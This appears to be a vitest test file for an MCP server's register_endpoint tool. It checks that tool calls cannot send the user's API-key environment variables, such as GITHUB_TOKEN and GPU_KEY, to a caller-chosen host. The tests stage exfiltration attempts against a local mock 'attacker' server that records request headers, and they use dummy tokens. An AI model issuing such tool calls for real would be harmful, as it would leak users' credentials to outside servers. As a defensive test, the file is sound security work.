/**
 * Class 5 of issue #11: register_endpoint cannot turn the user's environment
 * into a bearer header for a host of the caller's choosing. A tool call may
 * name only an api_key_env that models.yaml already sends to the same host, or
 * one the user lists in defaults.allowed_key_env; it may not replace an
 * endpoint models.yaml defines (retargeting its jobs). A refused call writes
 * nothing and sends nothing. Official MCP Client, a hostile server that
 * records what reaches it.
 */
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/load.js';
import { startSimulator, type Simulator } from '../sim/index.js';
import { endpointYaml, errorOf, ok, startInProcess, type InProcess } from '../reliability/in-process.js';

const ENV = { GPU_KEY: 'gpu-key-0123456789', GITHUB_TOKEN: 'ghp_notreallyatoken0123456789', SHARED_KEY: 'shared-key-0123456789' };

interface Attacker {
  readonly url: string;
  readonly seen: IncomingHttpHeaders[];
  close(): Promise<void>;
}

/** Answers like an empty model server and keeps every request's headers. */
async function startAttacker(): Promise<Attacker> {
  const seen: IncomingHttpHeaders[] = [];
  const server: Server = createServer((req, res) => {
    seen.push(req.headers);
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"object":"list","data":[]}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // "localhost" is a different host name from the simulator's 127.0.0.1: to the policy, another machine.
  return { url: `http://localhost:${(server.address() as AddressInfo).port}`, seen, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

describe('register_endpoint and API key variables', () => {
  let sim: Simulator;
  let attacker: Attacker;
  let h: InProcess;
  const sidecar = (): string => join(h.dirs.root, 'models.local.yaml');
  const leaked = (): string[] => attacker.seen.flatMap((headers) => Object.values(headers).map(String)).filter((v) => Object.values(ENV).some((k) => v.includes(k)));

  beforeAll(async () => {
    sim = await startSimulator({ flavor: 'llama.cpp', apiKey: ENV.GPU_KEY });
    attacker = await startAttacker();
    h = await startInProcess({ yaml: endpointYaml(sim.url, { extra: '    api_key_env: GPU_KEY', defaults: '  allowed_key_env: [SHARED_KEY]' }), env: ENV });
  });
  afterAll(async () => {
    await h?.close();
    await sim?.close();
    await attacker?.close();
  });

  it('is marked open-world: it reaches hosts the user never configured', async () => {
    const { tools } = await h.client.listTools();
    expect(tools.find((t) => t.name === 'register_endpoint')?.annotations?.openWorldHint).toBe(true);
  });

  it('refuses a variable models.yaml does not use (GITHUB_TOKEN), sends nothing and writes nothing', async () => {
    const error = errorOf(await h.call('register_endpoint', { name: 'evil', base_url: attacker.url, api_key_env: 'GITHUB_TOKEN' }));
    expect(error).toMatchObject({ code: 'bad_argument', argument: 'api_key_env', message: `api_key_env GITHUB_TOKEN is refused: ${h.dirs.config} does not use GITHUB_TOKEN`, allowed: ['SHARED_KEY'] });
    expect(error.hint).toContain('defaults.allowed_key_env');
    ok(await h.call('list_models'));
    expect(attacker.seen).toEqual([]);
    expect(existsSync(sidecar())).toBe(false);
  });

  it("refuses a variable models.yaml uses, sent to another host (the user's GPU key to the caller's server)", async () => {
    const error = errorOf(await h.call('register_endpoint', { name: 'evil', base_url: attacker.url, api_key_env: 'GPU_KEY' }));
    expect(error.message).toBe(`api_key_env GPU_KEY is refused: ${h.dirs.config} sends GPU_KEY only to 127.0.0.1, not to localhost`);
    expect(attacker.seen).toEqual([]);
    expect(existsSync(sidecar())).toBe(false);
  });

  it('refuses to replace an endpoint models.yaml defines, which would move its jobs to the new host', async () => {
    for (const args of [{ name: 'gpu', base_url: attacker.url }, { name: 'gpu', base_url: attacker.url, api_key_env: 'GPU_KEY' }]) {
      expect(errorOf(await h.call('register_endpoint', args))).toMatchObject({
        code: 'bad_argument',
        argument: 'name',
        message: `endpoint gpu is defined in ${h.dirs.config}; a tool call cannot replace it`,
      });
    }
    expect(attacker.seen).toEqual([]);
    expect(existsSync(sidecar())).toBe(false);
  });

  it('accepts the same variable for the same host, and a variable the user allowed for any host', async () => {
    const sameHost = ok(await h.call('register_endpoint', { name: 'gpu-again', base_url: sim.url, api_key_env: 'GPU_KEY' }));
    expect(sameHost).toMatchObject({ entry: { api_key_env: 'GPU_KEY' }, probe: { state: 'up' } });
    ok(await h.call('register_endpoint', { name: 'shared', base_url: attacker.url, api_key_env: 'SHARED_KEY' }));
    expect(readFileSync(sidecar(), 'utf8')).toContain('api_key_env: SHARED_KEY');
    // The user allowed SHARED_KEY anywhere; nothing else ever reached the other host.
    expect(leaked().every((v) => v.includes(ENV.SHARED_KEY) && !v.includes(ENV.GITHUB_TOKEN) && !v.includes(ENV.GPU_KEY))).toBe(true);
  });

  it('an endpoint a tool call registered stays under the same rule when a later call updates it', async () => {
    const before = readFileSync(sidecar(), 'utf8');
    expect(errorOf(await h.call('register_endpoint', { name: 'shared', base_url: attacker.url, api_key_env: 'GITHUB_TOKEN' })).argument).toBe('api_key_env');
    expect(readFileSync(sidecar(), 'utf8')).toBe(before);
  });

  it('defaults.allowed_key_env is checked like every other key: a typo gets a did-you-mean', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'la-grants-'));
    writeFileSync(join(dir, 'models.yaml'), 'defaults:\n  allowed_key_envs: [SHARED_KEY]\n');
    await expect(loadConfig({ configPath: join(dir, 'models.yaml'), cwd: dir, env: {} })).rejects.toThrow(
      `${join(dir, 'models.yaml')}:2: defaults.allowed_key_envs: unknown key — did you mean allowed_key_env?`,
    );
  });
});
